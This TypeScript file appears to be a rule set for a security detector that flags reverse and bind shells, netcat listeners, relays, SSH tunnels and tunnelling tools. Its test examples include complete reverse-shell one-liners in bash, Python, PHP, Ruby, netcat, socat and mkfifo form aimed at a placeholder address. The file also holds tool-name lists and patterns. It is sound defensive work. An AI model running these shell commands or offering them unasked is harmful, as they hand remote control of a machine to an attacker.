/** Shells to outside: reverse and bind shells, relays, tunnels. */
import { behaviour } from './behaviour.ts';
import { isShell } from './posix.ts';
import { inputsOf, onProcess, onText, said, type Row } from './row.ts';

export const LINUX_SHELLS: readonly Row[] = [
  behaviour('dev-tcp-shell', ['reverse-shell', 'T1059.004', 'execution', 'critical', 'high'], {
    reason:
      'A shell is tied to a network connection (/dev/tcp or /dev/udp): whoever is at the other end types commands here.',
    benign: ['a port check by a shell that only opens the connection'],
    hits: [
      'bash -i >& /dev/tcp/203.0.113.5/443 0>&1',
      "sh -c 'sh -i >& /dev/udp/203.0.113.5/53 0>&1'",
      "bash -c 'exec 5<>/dev/tcp/203.0.113.5/80;cat <&5 | while read line; do $line 2>&5 >&5; done'",
    ],
    misses: ['timeout 1 bash -c "echo > /dev/tcp/db.corp.example/5432"'],
    look: onText(
      ['/dev/tcp/', '/dev/udp/'],
      ({ lower }) =>
        /(?:sh|bash|ksh|zsh) -[il]\b/.test(lower) ||
        ((lower.includes('exec ') || lower.includes('exec\t')) && /<&\s?\d|\|\s?(?:ba)?sh\b|while read/.test(lower)) ||
        /(?:ba|k|z)?sh [^;|]{0,40}(?:0>&1|<&1|0<&1|2>&1)/.test(lower),
    ),
  }),
  behaviour('dev-tcp', ['reverse-shell', 'T1095', 'command-and-control', 'medium', 'medium'], {
    reason: 'The shell itself opens a network connection (/dev/tcp), past the tools that are watched.',
    benign: ['waiting for a port in a start script'],
    hits: ['bash -c "echo x > /dev/tcp/203.0.113.5/80"'],
    misses: ['ls /dev/ttyS0'],
    look: onText(['/dev/tcp/', '/dev/udp/']),
  }),
  behaviour('script-socket-shell', ['reverse-shell', 'T1059', 'execution', 'critical', 'high'], {
    reason: 'A script opens a socket and hands it to a shell: a reverse or bind shell.',
    benign: [],
    hits: [
      `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.5",443));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")'`,
      `php -r '$sock=fsockopen("203.0.113.5",443);exec("/bin/sh -i <&3 >&3 2>&3");'`,
      `ruby -rsocket -e 'c=TCPSocket.new("203.0.113.5","443");while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end'`,
    ],
    misses: [`python3 -c 'import socket; print(socket.gethostname())'`],
    look: onText(
      ['socket', 'fsockopen', 'net.connect', 'inet/tcp', 'tcpclient'],
      ({ lower }) =>
        [
          '/bin/sh',
          '/bin/bash',
          '"sh"',
          "'sh'",
          'cmd.exe',
          '"cmd"',
          'pty.spawn',
          'io.popen',
          'popen(',
          'dup2',
          'exec $c',
          'subprocess',
          'child_process',
          'processbuilder',
          '/bin/zsh',
          'powershell',
        ].some((shell) => lower.includes(shell)) &&
        [
          'connect',
          'fsockopen',
          'bind(',
          'socket_bind',
          'tcpsocket',
          'tcpserver',
          'socket $::env',
          'inet_aton',
          'createserver',
          'new socket',
          'net.socket',
          'inet/tcp',
          'tcpclient(',
          'listen(',
          '.spawn',
          'sockaddr_in',
          'pf_inet',
        ].some((call) => lower.includes(call)),
    ),
  }),
  behaviour('netcat-shell', ['reverse-shell', 'T1059.004', 'execution', 'critical', 'high'], {
    reason: 'netcat or socat is told to run a shell for whoever is connected.',
    benign: [],
    hits: [
      'nc -e /bin/sh 203.0.113.5 443',
      'ncat 203.0.113.5 443 -c bash',
      "socat exec:'bash -li',pty,stderr tcp:203.0.113.5:443",
      'nc.exe 203.0.113.5 443 -e cmd.exe',
    ],
    misses: ['nc -vz db.corp.example 5432', 'socat TCP-LISTEN:80,fork TCP:web:8080'],
    look: onProcess(
      ['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd', 'nc64', 'socat', 'busybox', 'ncat64'],
      (process) => {
        const text = said(process);
        if (process.name === 'socat')
          return /(?:exec|system):/.test(text)
            ? process.args.find(({ lower }) => /exec:|system:/.test(lower))
            : undefined;
        if (process.name === 'busybox' && !/^nc\b/.test(text)) return undefined;
        return /(?:^| )-[a-z]*[ec]\s?(?:\/\S{1,40}\/)?(?:(?:ba|z|k|da|a)?sh|cmd|powershell|pwsh)(?:\.exe)?(?: |$)/.test(
          text,
        )
          ? process
          : undefined;
      },
    ),
  }),
  behaviour('fifo-shell', ['reverse-shell', 'T1059.004', 'execution', 'critical', 'high'], {
    reason: 'A named pipe carries a network connection into a shell and back.',
    benign: [],
    hits: [
      'rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.5 443 >/tmp/f',
      'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.5:443 > /tmp/s',
    ],
    misses: ['mkfifo /run/app/pipe'],
    look: onText(
      ['mkfifo ', 'mknod '],
      ({ lower }) =>
        /sh\b/.test(lower) &&
        ['nc ', 'ncat ', 'telnet ', 'openssl s_client', 'netcat '].some((tool) => lower.includes(tool)),
    ),
  }),
  behaviour('network-shell-tool', ['reverse-shell', 'T1059.004', 'command-and-control', 'high', 'high'], {
    reason: 'A connection is piped into or out of a shell (telnet, openssl s_client, gs-netcat).',
    benign: ['testing a mail or TLS server by hand, without a shell in the pipe'],
    hits: ['telnet 203.0.113.5 4444 | /bin/sh | telnet 203.0.113.5 4445', 'gs-netcat -s SecretKey -l -i -q'],
    misses: ['openssl s_client -connect mail.corp.example:993'],
    look: onProcess(
      ['telnet', 'openssl', 'gs-netcat', 'sh', 'bash', 'nc', 'ncat', 'netcat', 'whois', 'finger'],
      (process, scene) => {
        if (process.name === 'gs-netcat') return process;
        const isNet = (name: string, text: string): boolean =>
          ['telnet', 'nc', 'ncat', 'netcat'].includes(name) || (name === 'openssl' && text.includes('s_client'));
        if (isShell(process))
          return (
            inputsOf(process, scene)
              .slice(0, 1)
              .find((one) => isNet(one.name, said(one))) && process
          );
        return isNet(process.name, said(process)) && inputsOf(process, scene).some(isShell) ? process : undefined;
      },
    ),
  }),
  behaviour('listener', ['reverse-shell', 'T1571', 'command-and-control', 'medium', 'medium'], {
    reason: 'A raw listener waits for a connection (netcat, socat, openssl s_server).',
    benign: ['debugging a network', 'copying a file between two own machines'],
    hits: [
      'nc -lvnp 4444',
      'openssl s_server -quiet -key key.pem -cert cert.pem -port 4444',
      'ncat --ssl -vv -l -p 443',
    ],
    misses: ['nc -vz host 443'],
    look: onProcess(['nc', 'ncat', 'netcat', 'openssl', 'nc64'], (process) => {
      const text = said(process);
      if (process.name === 'openssl') return text.startsWith('s_server') ? process : undefined;
      return /(?:^| )-[a-z]*l[a-z]*(?: |$)|--listen/.test(text) ? process : undefined;
    }),
  }),
  behaviour('relay', ['tunnel', 'T1090', 'command-and-control', 'medium', 'high'], {
    reason: 'A relay forwards a port to another machine, so traffic passes where it is not expected.',
    benign: ['reaching a database from an administrator’s machine'],
    hits: ['socat TCP-LISTEN:8088,fork TCP:10.20.4.20:1433'],
    misses: ['socat - UNIX-CONNECT:/run/app.sock'],
    look: onProcess(['socat', 'rinetd', 'redir'], (process) => (/listen:/.test(said(process)) ? process : undefined)),
  }),
  behaviour('ssh-tunnel', ['tunnel', 'T1572', 'command-and-control', 'high', 'medium'], {
    reason: 'SSH opens a remote forward or a SOCKS proxy: the other side reaches into this network.',
    benign: ['a developer reaching a service behind a jump host'],
    hits: [
      'ssh -fN -R 0.0.0.0:2222:localhost:22 tunnel@203.0.113.7 -o StrictHostKeyChecking=no',
      'ssh -D 1080 -N user@203.0.113.7',
    ],
    misses: ['ssh -p 22 admin@host uptime'],
    look: onProcess(['ssh', 'autossh', 'plink', 'sshuttle'], (process) =>
      /(?:^| )-[a-z]{0,8}[rd](?: |\d|\S{0,60}:\d)/i.test(
        process.args
          .map(({ text }) => text)
          .filter((text) => /^-\w*[RD]/.test(text) || !text.startsWith('-'))
          .join(' '),
      ) && process.args.some(({ text }) => /^-[A-Za-z]*[RD]/.test(text))
        ? process
        : undefined,
    ),
  }),
  behaviour('tunnel-tool', ['tunnel', 'T1572', 'command-and-control', 'high', 'medium'], {
    reason:
      'A tunnelling tool gives the outside a way into this network (chisel, frp, ngrok, cloudflared, developer tunnels).',
    benign: ['a team that uses such a tunnel on purpose'],
    hits: [
      './chisel client http://203.0.113.9:8080 R:socks',
      '/tmp/frpc -c /tmp/frpc.ini',
      'cloudflared tunnel --url localhost:8080',
      'ngrok tcp 3389',
      'code tunnel --accept-server-license-terms',
      'devtunnel host -p 8080',
    ],
    misses: ['cloudflared --version', 'code .'],
    look: onProcess(
      [
        'chisel',
        'frpc',
        'frps',
        'ngrok',
        'cloudflared',
        'ligolo-ng',
        'ligolo',
        'agent',
        'gost',
        'iox',
        'rpivot',
        'earthworm',
        'ew',
        'reverse_ssh',
        'bore',
        'localtunnel',
        'lt',
        'pagekite',
        'pagekite.py',
        'nps',
        'npc',
        'revsocks',
        'code',
        'devtunnel',
        'dnscat',
        'dnscat2',
        'iodine',
        'iodined',
        'ptunnel',
        'regeorgsocksproxy.py',
        'neoreg.py',
        'proxychains',
        'proxychains4',
        'tor',
        'inlets',
        'zrok',
        'tailscaled',
        'stunnel',
        '3proxy',
        'localtonet',
        'loclx',
        'telebit',
        'playit',
        'sshuttle',
        'dns2tcpc',
        'venom',
      ],
      (process) => {
        const text = said(process);
        switch (process.name) {
          case 'code':
            return text.startsWith('tunnel') ? process : undefined;
          case 'devtunnel':
            return /^(?:host|connect|port|user login)/.test(text) ? process : undefined;
          case 'cloudflared':
            return /tunnel --url|tunnel run --token|access (?:tcp|ssh|rdp)|service install/.test(text) &&
              !/--version|--help/.test(text)
              ? process
              : undefined;
          case 'agent':
            return /-connect |--?ignore-cert/.test(text) ? process : undefined;
          case 'ngrok':
            return /^(?:tcp|http|tls|start|service|config add-authtoken|authtoken)/.test(text) ? process : undefined;
          case 'bore':
          case 'zrok':
          case 'frpc':
          case 'frps':
            return /^(?:--?version|--?help|-h|completion|status|invite|server|local --to remote)/.test(text)
              ? undefined
              : process;
          default:
            return /^(?:--?version|--?help|-h)$/.test(text) ? undefined : process;
        }
      },
    ),
  }),
  behaviour('regeorg', ['tunnel', 'T1090', 'command-and-control', 'high', 'high'], {
    reason: 'A proxy through a web shell (reGeorg and its like).',
    benign: [],
    hits: ['python reGeorgSocksProxy.py -p 8080 -u http://host.example/shell.jsp'],
    misses: ['python proxy.py --port 8080'],
    look: onText(['regeorg', 'neo-regeorg', 'tunnel.jsp', 'pystinger']),
  }),
];
